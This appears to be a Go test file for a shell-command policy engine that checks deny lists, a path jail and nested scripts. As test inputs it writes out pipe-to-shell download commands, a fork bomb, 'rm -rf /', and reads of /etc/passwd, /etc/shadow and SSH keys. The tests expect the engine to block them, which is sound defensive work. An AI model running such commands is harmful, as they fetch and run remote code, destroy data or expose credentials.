package security

import (
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"shellgate/internal/config"
	"shellgate/internal/domain"
	"shellgate/internal/jail"
)

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelError}))
}

func defaultTestCfg() config.PolicyConfig {
	return config.Defaults().Policy
}

func mustEngine(t *testing.T, cfg config.PolicyConfig) *Engine {
	t.Helper()
	root := t.TempDir()
	newJail := jail.New
	if !cfg.EnforceRootJail {
		newJail = jail.Unrestricted
	}
	j, err := newJail(root)
	if err != nil {
		t.Fatalf("jail: %v", err)
	}
	e, err := NewEngine(cfg, j, testLogger())
	if err != nil {
		t.Fatalf("NewEngine: %v", err)
	}
	return e
}

func bash(text string) domain.CommandRequest {
	return domain.CommandRequest{RawText: text, Shell: domain.ShellBash}
}

func pwsh(text string) domain.CommandRequest {
	return domain.CommandRequest{RawText: text, Shell: domain.ShellPowerShell}
}

func expectDecision(t *testing.T, v domain.PolicyVerdict, want domain.Decision) {
	t.Helper()
	if v.Decision != want {
		t.Fatalf("expected %s, got %s", want, v)
	}
}

// --- NewEngine ---

func TestNewEngine_RejectsBadMode(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.EnforceMode = "lenient"
	j, err := jail.New(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := NewEngine(cfg, j, testLogger()); err == nil {
		t.Fatal("expected error for unknown enforce mode")
	}
}

func TestNewEngine_RejectsBadPattern(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.DeniedPatterns = []string{"("}
	j, err := jail.New(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := NewEngine(cfg, j, testLogger()); err == nil {
		t.Fatal("expected error for invalid regex")
	}
}

func TestNewEngine_RequiresJail(t *testing.T) {
	if _, err := NewEngine(defaultTestCfg(), nil, testLogger()); err == nil {
		t.Fatal("expected error without a jail")
	}
}

// --- Basic rules ---

func TestEvaluate_AllowListedNeedsApproval(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	v := e.Evaluate(bash("ls -la"))
	expectDecision(t, v, domain.DecisionNeedsApproval)
	if v.Reason != "allow-listed" || v.MatchedRule != "allowed-command:ls" {
		t.Fatalf("unexpected verdict: %+v", v)
	}
}

func TestEvaluate_AutoApproveAllowListed(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.AutoApproveAllowlisted = true
	e := mustEngine(t, cfg)

	expectDecision(t, e.Evaluate(bash("ls")), domain.DecisionAllow)
	expectDecision(t, e.Evaluate(bash("rm x")), domain.DecisionDeny)
}

func TestEvaluate_DeniedRegardlessOfMode(t *testing.T) {
	for _, mode := range []string{"strict", "advisory"} {
		cfg := defaultTestCfg()
		cfg.EnforceMode = mode
		cfg.AutoApproveAllowlisted = true
		e := mustEngine(t, cfg)

		for _, cmd := range []string{"rm notes.txt", "mv a b", "chmod 777 x", "shutdown -h now"} {
			v := e.Evaluate(bash(cmd))
			expectDecision(t, v, domain.DecisionDeny)
			if !strings.HasPrefix(v.MatchedRule, "denied-command:") {
				t.Fatalf("%s/%q: rule = %q", mode, cmd, v.MatchedRule)
			}
		}
	}
}

func TestEvaluate_DenyWinsOverAllow(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.Bash.Allowed = append(cfg.Bash.Allowed, "rm")
	e := mustEngine(t, cfg)

	v := e.Evaluate(bash("rm x"))
	expectDecision(t, v, domain.DecisionDeny)
	if v.MatchedRule != "denied-command:rm" {
		t.Fatalf("rule = %q", v.MatchedRule)
	}
}

func TestEvaluate_StrictDeniesUnlisted(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	v := e.Evaluate(bash("curl http://evil"))
	expectDecision(t, v, domain.DecisionDeny)
	if !strings.Contains(v.Reason, "not allow-listed") || v.MatchedRule != RuleStrict {
		t.Fatalf("unexpected verdict: %+v", v)
	}
}

func TestEvaluate_AdvisoryEscalatesUnlisted(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.EnforceMode = "advisory"
	e := mustEngine(t, cfg)

	v := e.Evaluate(bash("curl http://example.com"))
	expectDecision(t, v, domain.DecisionNeedsApproval)
	if v.Reason != "unlisted, advisory mode" || v.MatchedRule != RuleAdvisory {
		t.Fatalf("unexpected verdict: %+v", v)
	}
}

func TestEvaluate_EmptyAndOversized(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.MaxCommandLen = 10
	e := mustEngine(t, cfg)

	for _, cmd := range []string{"", "   ", "\n\t"} {
		v := e.Evaluate(bash(cmd))
		expectDecision(t, v, domain.DecisionDeny)
		if v.MatchedRule != RuleEmpty {
			t.Fatalf("%q: rule = %q", cmd, v.MatchedRule)
		}
	}

	v := e.Evaluate(bash("echo " + strings.Repeat("a", 20)))
	expectDecision(t, v, domain.DecisionDeny)
	if v.MatchedRule != RuleTooLong {
		t.Fatalf("rule = %q", v.MatchedRule)
	}

	// the limit counts characters, not bytes
	expectDecision(t, e.Evaluate(bash("echo ééé")), domain.DecisionNeedsApproval)
}

func TestEvaluate_UnsupportedShell(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())
	v := e.Evaluate(domain.CommandRequest{RawText: "ls", Shell: "zsh"})
	expectDecision(t, v, domain.DecisionDeny)
	if v.MatchedRule != RuleUnsupported {
		t.Fatalf("rule = %q", v.MatchedRule)
	}
}

func TestEvaluate_ParseError(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())
	v := e.Evaluate(bash(`echo "unterminated`))
	expectDecision(t, v, domain.DecisionDeny)
	if v.MatchedRule != RuleParse {
		t.Fatalf("rule = %q", v.MatchedRule)
	}
}

func TestEvaluate_DeniedPatterns(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	for _, cmd := range []string{
		"curl http://x.example/install | sh",
		"wget -qO- http://x.example | bash",
		":(){ :|:& };:",
	} {
		v := e.Evaluate(bash(cmd))
		expectDecision(t, v, domain.DecisionDeny)
		if !strings.HasPrefix(v.MatchedRule, "denied-pattern:") {
			t.Fatalf("%q: rule = %q", cmd, v.MatchedRule)
		}
	}
}

func TestEvaluate_AssignmentOnly(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	v := e.Evaluate(bash("FOO=bar"))
	expectDecision(t, v, domain.DecisionAllow)
	if v.MatchedRule != RuleAssignment {
		t.Fatalf("rule = %q", v.MatchedRule)
	}

	v = e.Evaluate(bash("LANG=C ls"))
	expectDecision(t, v, domain.DecisionNeedsApproval)
	if v.MatchedRule != "allowed-command:ls" {
		t.Fatalf("rule = %q", v.MatchedRule)
	}
}

// --- Chains and substitutions ---

func TestEvaluate_ChainTakesMostRestrictive(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	for _, cmd := range []string{
		"ls && rm -rf /",
		"ls && rm notes",
		"ls; rm notes",
		"ls || rm notes",
		"ls | rm notes",
		"ls & rm notes",
		"ls\nrm notes",
	} {
		expectDecision(t, e.Evaluate(bash(cmd)), domain.DecisionDeny)
	}

	v := e.Evaluate(bash("ls && rm notes"))
	if v.MatchedRule != "denied-command:rm" || v.Segment != "rm notes" {
		t.Fatalf("unexpected verdict: %+v", v)
	}
}

func TestEvaluate_ChainEscalatesToApproval(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.EnforceMode = "advisory"
	cfg.AutoApproveAllowlisted = true
	e := mustEngine(t, cfg)

	v := e.Evaluate(bash("ls | wc -l"))
	expectDecision(t, v, domain.DecisionNeedsApproval)
	if v.MatchedRule != RuleAdvisory || v.Segment != "wc -l" {
		t.Fatalf("unexpected verdict: %+v", v)
	}
}

func TestEvaluate_QuotedSeparatorsAreLiteral(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	for _, cmd := range []string{
		`echo "a; rm b"`,
		`echo 'x && rm y'`,
		`grep "a|b" notes.txt`,
		`echo a\;rm`,
	} {
		expectDecision(t, e.Evaluate(bash(cmd)), domain.DecisionNeedsApproval)
	}
}

func TestEvaluate_SubstitutionsAreChecked(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	for _, cmd := range []string{
		"echo $(rm x)",
		"echo `rm x`",
		`echo "$(rm x)"`,
		"cat <(rm x)",
		"echo $(echo $(rm x))",
		"(rm x)",
	} {
		v := e.Evaluate(bash(cmd))
		expectDecision(t, v, domain.DecisionDeny)
		if v.MatchedRule != "denied-command:rm" {
			t.Fatalf("%q: rule = %q", cmd, v.MatchedRule)
		}
	}

	// single quotes keep substitutions literal
	expectDecision(t, e.Evaluate(bash(`echo '$(rm x)'`)), domain.DecisionNeedsApproval)
}

func TestEvaluate_RedirectsDoNotSplit(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	for _, cmd := range []string{
		"ls 2>/dev/null",
		"ls 2>&1 | grep foo",
		"ls >&2",
		"echo hi > out.txt",
	} {
		expectDecision(t, e.Evaluate(bash(cmd)), domain.DecisionNeedsApproval)
	}

	v := e.Evaluate(bash("echo hi > /etc/motd"))
	expectDecision(t, v, domain.DecisionDeny)
	if v.MatchedRule != RulePathEscape {
		t.Fatalf("rule = %q", v.MatchedRule)
	}
}

// --- Wrappers ---

func TestEvaluate_DeniedBehindWrappers(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	for _, cmd := range []string{
		"/bin/rm x",
		"env FOO=1 rm x",
		"nice -n 5 rm x",
		"timeout 10s rm x",
		`find . -name '*.tmp' -exec rm {} \;`,
		"xargs rm",
		"command rm x",
	} {
		v := e.Evaluate(bash(cmd))
		expectDecision(t, v, domain.DecisionDeny)
		if v.MatchedRule != "denied-command:rm" {
			t.Fatalf("%q: rule = %q", cmd, v.MatchedRule)
		}
	}

	v := e.Evaluate(bash("sudo ls"))
	if v.MatchedRule != "denied-command:sudo" {
		t.Fatalf("rule = %q", v.MatchedRule)
	}
}

func TestEvaluate_DeniedInsideNestedScripts(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.EnforceMode = "advisory"
	e := mustEngine(t, cfg)

	cases := []struct {
		req  domain.CommandRequest
		rule string
	}{
		{bash("bash -c 'rm x'"), "denied-command:rm"},
		{bash("sh -c rm"), "denied-command:rm"},
		{bash("eval rm x"), "denied-command:rm"},
		{bash("eval 'rm x'"), "denied-command:rm"},
		{bash("bash -lc 'ls && rm x'"), "denied-command:rm"},
		{bash("/bin/sh -e -c 'echo ok; rm x'"), "denied-command:rm"},
		{bash("nohup zsh -c 'bash -c \"rm x\"'"), "denied-command:rm"},
		{bash("bash -c 'cat ../secret'"), RulePathEscape},
		{bash("pwsh -Command Remove-Item x"), "denied-command:Remove-Item"},
		{bash("pwsh -NoProfile -c 'Remove-Item x'"), "denied-command:Remove-Item"},
		{pwsh("powershell -Command Remove-Item x"), "denied-command:Remove-Item"},
		{pwsh("pwsh -c 'bash -c \"rm x\"'"), "denied-command:rm"},
	}
	for _, tc := range cases {
		v := e.Evaluate(tc.req)
		expectDecision(t, v, domain.DecisionDeny)
		if v.MatchedRule != tc.rule {
			t.Fatalf("%q: rule = %q, want %q", tc.req.RawText, v.MatchedRule, tc.rule)
		}
	}

	// a script that is fine on its own does not make the wrapper fail
	expectDecision(t, e.Evaluate(bash("bash -c 'ls -la'")), domain.DecisionNeedsApproval)
	expectDecision(t, e.Evaluate(bash("bash script.sh")), domain.DecisionNeedsApproval)
}

func TestEvaluate_NestedScriptEscalates(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.AutoApproveAllowlisted = true
	cfg.Bash.Allowed = append(cfg.Bash.Allowed, "bash", "pwsh")
	e := mustEngine(t, cfg)

	expectDecision(t, e.Evaluate(bash("bash -c 'ls'")), domain.DecisionAllow)

	v := e.Evaluate(bash("bash -c 'curl http://example.com'"))
	expectDecision(t, v, domain.DecisionDeny)
	if v.MatchedRule != RuleStrict {
		t.Fatalf("rule = %q", v.MatchedRule)
	}

	v = e.Evaluate(bash("pwsh -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtAA=="))
	expectDecision(t, v, domain.DecisionNeedsApproval)
	if v.MatchedRule != RuleEncoded {
		t.Fatalf("rule = %q", v.MatchedRule)
	}
}

// --- Path jail ---

func TestEvaluate_PathEscapeAlwaysDenied(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.EnforceMode = "advisory"
	cfg.AutoApproveAllowlisted = true
	e := mustEngine(t, cfg)

	for _, cmd := range []string{
		"cat ../../etc/passwd",
		"cat /etc/passwd",
		"ls ~/",
		"cd ..",
		"cd /",
		"cd",
		"grep --file=/etc/shadow x",
		"cd sub && cat ../../x",
	} {
		v := e.Evaluate(bash(cmd))
		expectDecision(t, v, domain.DecisionDeny)
		if v.MatchedRule != RulePathEscape {
			t.Fatalf("%q: rule = %q (%s)", cmd, v.MatchedRule, v.Reason)
		}
	}
}

func TestEvaluate_PathsInsideRoot(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())
	root := e.Jail().Root()
	if err := os.Mkdir(filepath.Join(root, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}

	for _, cmd := range []string{
		"cat ./notes.txt",
		"cd sub",
		"cd sub && cat ../notes.txt",
		"ls " + filepath.Join(root, "sub"),
		"mkdir new/nested",
		"wget https://example.com/file",
	} {
		expectDecision(t, e.Evaluate(bash(cmd)), domain.DecisionNeedsApproval)
	}
}

func TestEvaluate_WorkingDir(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())
	root := e.Jail().Root()
	if err := os.MkdirAll(filepath.Join(root, "a", "b"), 0o755); err != nil {
		t.Fatal(err)
	}

	req := bash("cat ../x")
	req.WorkingDir = filepath.Join(root, "a", "b")
	expectDecision(t, e.Evaluate(req), domain.DecisionNeedsApproval)

	req.RawText = "cat ../../../x"
	expectDecision(t, e.Evaluate(req), domain.DecisionDeny)

	req = bash("ls")
	req.WorkingDir = "../"
	v := e.Evaluate(req)
	expectDecision(t, v, domain.DecisionDeny)
	if v.MatchedRule != RulePathEscape {
		t.Fatalf("rule = %q", v.MatchedRule)
	}
}

func TestEvaluate_SymlinkEscape(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())
	root := e.Jail().Root()
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(root, "link")); err != nil {
		t.Skipf("symlink: %v", err)
	}

	v := e.Evaluate(bash("cat link/secret"))
	expectDecision(t, v, domain.DecisionDeny)
	if v.MatchedRule != RulePathEscape {
		t.Fatalf("rule = %q", v.MatchedRule)
	}
}

func TestEvaluate_DotDotAfterSymlink(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())
	root := e.Jail().Root()
	outside := t.TempDir()
	if err := os.MkdirAll(filepath.Join(outside, "x", "y"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "secret.txt"), []byte("decoy"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(outside, "x", "y"), filepath.Join(root, "link")); err != nil {
		t.Skipf("symlink: %v", err)
	}

	for _, cmd := range []string{"cat link/../secret.txt", "cd link/..", "cd link && cat ../secret.txt"} {
		v := e.Evaluate(bash(cmd))
		expectDecision(t, v, domain.DecisionDeny)
		if v.MatchedRule != RulePathEscape {
			t.Fatalf("%q: rule = %q", cmd, v.MatchedRule)
		}
	}
}

func TestEvaluateDir(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())
	root := e.Jail().Root()
	sub := filepath.Join(root, "sub")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}

	cases := []struct {
		req  domain.CommandRequest
		want string
	}{
		{bash("ls"), root},
		{bash("cd sub"), sub},
		{bash("cd sub && ls"), sub},
		{domain.CommandRequest{RawText: "cd ..", Shell: domain.ShellBash, WorkingDir: sub}, root},
		{domain.CommandRequest{RawText: "ls", Shell: domain.ShellBash, WorkingDir: "sub"}, sub},
		{bash("cd sub && cd $TARGET"), root},
	}
	for _, tc := range cases {
		v, dir := e.EvaluateDir(tc.req)
		if v.Decision == domain.DecisionDeny {
			t.Fatalf("%q: unexpected %s", tc.req.RawText, v)
		}
		if dir != tc.want {
			t.Errorf("%q: dir = %q, want %q", tc.req.RawText, dir, tc.want)
		}
	}
}

func TestEvaluate_ExpansionNeedsApproval(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.AutoApproveAllowlisted = true
	e := mustEngine(t, cfg)

	v := e.Evaluate(bash("cat $HOME/.ssh/id_rsa"))
	expectDecision(t, v, domain.DecisionNeedsApproval)
	if v.MatchedRule != RulePathUnresolved {
		t.Fatalf("rule = %q", v.MatchedRule)
	}

	expectDecision(t, e.Evaluate(bash("cd $TARGET")), domain.DecisionNeedsApproval)
	expectDecision(t, e.Evaluate(bash("cat ./notes")), domain.DecisionAllow)
}

func TestEvaluate_UnrestrictedJail(t *testing.T) {
	cfg := defaultTestCfg()
	cfg.EnforceRootJail = false
	e := mustEngine(t, cfg)

	expectDecision(t, e.Evaluate(bash("cat ../../etc/passwd")), domain.DecisionNeedsApproval)
	expectDecision(t, e.Evaluate(bash("rm ../x")), domain.DecisionDeny)
}

// --- PowerShell ---

func TestEvaluate_PowerShellCaseInsensitive(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	for _, cmd := range []string{"Remove-Item foo", "remove-item foo", "REMOVE-ITEM foo", "del foo", "rm foo", "ri foo"} {
		v := e.Evaluate(pwsh(cmd))
		expectDecision(t, v, domain.DecisionDeny)
		if v.MatchedRule != "denied-command:Remove-Item" {
			t.Fatalf("%q: rule = %q", cmd, v.MatchedRule)
		}
	}

	for _, cmd := range []string{"Get-ChildItem", "get-childitem", "gci", "ls", "dir"} {
		v := e.Evaluate(pwsh(cmd))
		expectDecision(t, v, domain.DecisionNeedsApproval)
		if v.MatchedRule != "allowed-command:Get-ChildItem" {
			t.Fatalf("%q: rule = %q", cmd, v.MatchedRule)
		}
	}
}

func TestEvaluate_BashIsCaseSensitive(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	// RM is not rm to bash, and not allow-listed either
	v := e.Evaluate(bash("RM x"))
	expectDecision(t, v, domain.DecisionDeny)
	if v.MatchedRule != RuleStrict {
		t.Fatalf("rule = %q", v.MatchedRule)
	}
}

func TestEvaluate_PowerShellChainsAndBlocks(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	for _, cmd := range []string{
		"Get-ChildItem; Remove-Item x",
		"Get-ChildItem | ForEach-Object { Remove-Item $_ }",
		"Get-ChildItem | % { del $_ }",
		"Write-Output (Remove-Item x)",
		"Get-Content \"$(Remove-Item x)\"",
	} {
		expectDecision(t, e.Evaluate(pwsh(cmd)), domain.DecisionDeny)
	}

	v := e.Evaluate(pwsh(`Get-Content "$(Remove-Item x)"`))
	if v.MatchedRule != "denied-command:Remove-Item" || v.Segment != "Remove-Item x" {
		t.Fatalf("unexpected verdict: %+v", v)
	}
}

func TestEvaluate_PowerShellPathEscape(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	for _, cmd := range []string{
		"Set-Location ..",
		"cd ..",
		"Set-Location -Path ../..",
		"Get-Content ../secret.txt",
		"Get-Content -LiteralPath:../secret.txt",
		`Get-Content ..\secret.txt`,
		`Get-Content ..\..\x`,
		`Set-Location ..\..`,
		`Get-Content -Path sub\..\..\x`,
	} {
		v := e.Evaluate(pwsh(cmd))
		expectDecision(t, v, domain.DecisionDeny)
		if v.MatchedRule != RulePathEscape {
			t.Fatalf("%q: rule = %q", cmd, v.MatchedRule)
		}
	}
}

// --- Purity ---

func TestEvaluate_Idempotent(t *testing.T) {
	e := mustEngine(t, defaultTestCfg())

	for _, req := range []domain.CommandRequest{
		bash("ls && rm -rf /"),
		bash("cat ../../etc/passwd"),
		bash("ls -la"),
		bash("curl http://evil"),
		pwsh("Get-ChildItem | Sort-Object Name"),
	} {
		first := e.Evaluate(req)
		second := e.Evaluate(req)
		if diff := cmp.Diff(first, second); diff != "" {
			t.Fatalf("%q: verdicts differ (-first +second):\n%s", req.RawText, diff)
		}
	}
}
